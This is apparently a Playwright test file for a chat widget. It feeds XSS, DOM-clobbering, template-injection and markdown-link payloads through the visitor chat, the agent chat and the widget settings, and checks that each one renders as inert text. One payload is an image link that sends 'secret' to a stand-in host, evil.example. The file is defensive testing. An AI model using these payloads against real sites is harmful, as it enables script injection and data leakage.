import { expect } from "@playwright/test";
import { newVisitor } from "./chatApi.ts";
import { acceptOnly, openAgent } from "./parties.ts";
import { test } from "./story.ts";
import { openPanel, say } from "./visitorStory.ts";

const PAYLOADS = [
  "<img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<svg/onload=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form><input name=attributes><input name=innerHTML>",
  "[x](javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.example)",
  "![](https://evil.example/?q=secret)",
  "[![](https://evil.example/i)](https://evil.example/l)",
  "https://good.example/\u202Egpj.exe",
  "{{constructor.constructor('alert(1)')()}}",
];

test("X49–X53: hostile words are text, for the visitor and for the agent", async ({ page, browser, work, site }) => {
  const title = '"};alert(1)//</script><b>';
  await work.setWidget({
    look: {
      title,
      subtitle: "</style><script>alert(1)</script>",
      colour: "#2f6fed",
      textColour: null,
      colorScheme: "auto",
      position: "bottom-right",
      offsetX: 20,
      offsetY: 20,
      zIndex: 1000,
      launcherIcon: "chat",
      launcherText: "",
      teaser: "<img src=x onerror=alert(1)>",
    },
  });
  const alarms: string[] = [];
  const strangers: string[] = [];
  const watch = (watched: typeof page) => {
    watched.on("dialog", (dialog) => {
      alarms.push(dialog.message());
      void dialog.dismiss();
    });
    watched.on("request", (sent) => {
      if (/evil\.example/.test(sent.url())) strangers.push(sent.url());
    });
  };
  watch(page);
  await page.goto(site.origin);
  await openPanel(page, title);
  const dialog = page.getByRole("dialog", { name: title });
  await dialog.getByRole("button", { name: "Talk to a person" }).first().click();
  await expect(page.getByText("You asked for a person").first()).toBeVisible();

  const agent = await openAgent(browser, work.email);
  watch(agent.page);
  await acceptOnly(agent);
  for (const payload of PAYLOADS) {
    await say(page, payload);
    await agent.say(payload);
    // what looks like a variable that nothing fills in is asked about, and goes as it stands
    if (payload.startsWith("{{")) await agent.page.getByRole("button", { name: "Send as it is" }).click();
  }
  await expect(page.locator(".row:not(.me) .bubble")).toHaveCount(PAYLOADS.length + 1);
  await expect(page.locator(".row.me .bubble")).toHaveText(PAYLOADS, { useInnerText: false });
  for (const surface of [dialog, agent.log]) {
    await expect(surface.locator("img, iframe, math, form input[name=attributes], svg[onload]")).toHaveCount(0);
    const links = await surface
      .locator("a[href]")
      .evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
    for (const href of links) expect(href).toMatch(/^(https?:|mailto:|\/)/);
  }
  for (const link of await dialog.locator(".bubble a").all()) {
    await expect(link).toHaveAttribute("rel", "noopener nofollow ugc");
    await expect(link).toHaveAttribute("target", "_blank");
  }
  expect([alarms, strangers]).toEqual([[], []]);
});

test("X31: the public design names nothing private", async ({ request, work }) => {
  await newVisitor(request, work.siteKey);
  const response = await request.get(`/api/widgets/${work.siteKey}/config`, {
    headers: { "sec-fetch-site": "same-origin" },
  });
  const text = await response.text();
  expect(text).not.toMatch(
    /instructions|allowedOrigins|escalateOnWords|escalateAfterMisses|"email"|@|workspace|apiKey|instruction/i,
  );
});
